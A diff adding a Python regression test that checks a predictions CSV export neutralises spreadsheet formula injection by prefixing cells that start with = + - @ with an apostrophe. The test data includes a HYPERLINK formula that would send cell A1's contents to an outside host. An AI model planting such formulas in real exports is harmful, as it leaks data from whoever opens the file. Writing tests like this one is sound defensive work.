@@ -300,3 +300,22 @@ def test_macro_f1_of_a_set_without_in_scope_rows_is_undefined_not_zero() -> None
     assert (m.accuracy, m.out_of_scope_recall, m.in_scope_accuracy, m.macro_f1) == (1.0, 1.0, None, None)
     assert m.to_dict()["macro_f1"] is None
     assert compute_metrics([prediction("", "billing")]).macro_f1 is None  # a misroute: no agent to average
+
+
+def test_the_predictions_csv_does_not_start_a_cell_with_a_formula() -> None:
+    """Bug (session 16 QA): a query of an uploaded labelled set such as `=HYPERLINK("http://x?"&A1,"bill")` went
+    into the predictions CSV as it was, and a spreadsheet opening the download runs it (CSV injection). Text
+    cells starting with = + - @ or a tab / carriage return now start with an apostrophe (OWASP's advice);
+    other text is unchanged."""
+    import csv
+    import io
+
+    rows = [
+        LabelledQuery('=HYPERLINK("http://x?"&A1,"bill")', "billing", "", "web-stable", 2),
+        LabelledQuery("@SUM(1+1) my bill", "billing", "", "web-stable", 3),
+        LabelledQuery("show my bill", "billing", "", "web-stable", 4),
+    ]
+    result = evaluate(DESIGN, rows, router=OverlapRouter())
+    read = list(csv.DictReader(io.StringIO(result.to_csv())))
+    assert [r["query"] for r in read] == ['\'=HYPERLINK("http://x?"&A1,"bill")', "'@SUM(1+1) my bill", "show my bill"]
+    assert read[0]["agent"] == "billing"  # a plain cell stays as it is
